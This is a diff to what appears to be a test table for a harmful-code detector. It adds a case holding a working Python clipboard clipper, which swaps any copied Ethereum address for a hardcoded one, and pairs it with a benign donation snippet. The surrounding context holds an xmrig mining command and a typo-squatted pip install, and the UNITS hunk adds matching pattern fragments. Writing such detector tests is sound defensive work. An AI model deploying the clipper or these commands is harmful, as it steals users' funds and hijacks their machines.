@@ -304,6 +304,14 @@ CASES = [
     ("harmful-instruction", "high",
      sh("xmrig -o pool.example.net:4444 -u 44AFFq5kSiGBoZ --donate-level 0 -B"),
      "If `ps aux` lists xmrig, stop it with `pkill -f xmrig` and report the host.\n"),
+    # a clipper: the clipboard read, written back, and an address literal in the block
+    ("harmful-instruction", "high",
+     sh("import pyperclip, re, time\nMINE = '0x9dE1c4F0b3aA7e6C1f2b8E5d4C3a2B1e0F9d8C7b'\n"
+        "while True:\n    t = pyperclip.paste()\n"
+        "    if re.fullmatch(r'0x[0-9a-fA-F]{40}', t.strip()) and t != MINE:\n"
+        "        pyperclip.copy(MINE)\n    time.sleep(0.5)", "python"),
+     sh("import pyperclip\nDONATE = '0x9dE1c4F0b3aA7e6C1f2b8E5d4C3a2B1e0F9d8C7b'\n"
+        "pyperclip.copy(DONATE)  # the user asked for the donation address", "python")),
     # a typo-squat on the line after `pip install \`
     ("download-and-execute", "high",
      sh("python3 -m pip install --quiet \\\n  black==24.8.0 \"reqeusts>=2.31\""),
@@ -355,6 +363,11 @@ UNITS = {
     # stop 43
     "stratum": "stratum+tcp://pool.x:3333 ", "miner": "xmrig -o p:1 -u w ",
     "pip-continued": "pip install \\\n",
+    "clipper": "pyperclip.paste() pyperclip.copy(0x9de1c4f0b3aa7e6c1f2b8e5d4c3a2b1e0f9d8c7b) ",
+    # recipient_swaps before stop 43: 23 s on the first, 6 s on its lines (a regex per line
+    # of every window, a window per address line)
+    "address-constant": "w='0x9de1c4f0b3aa7e6c1f2b8e5d4c3a2b1e0f9d8c7b' ",
+    "recipient": "to = '0x9de1c4f0b3aa7e6c1f2b8e5d4c3a2b1e0f9d8c7b'; def f(to): ",
 }  # fmt: skip
 
 
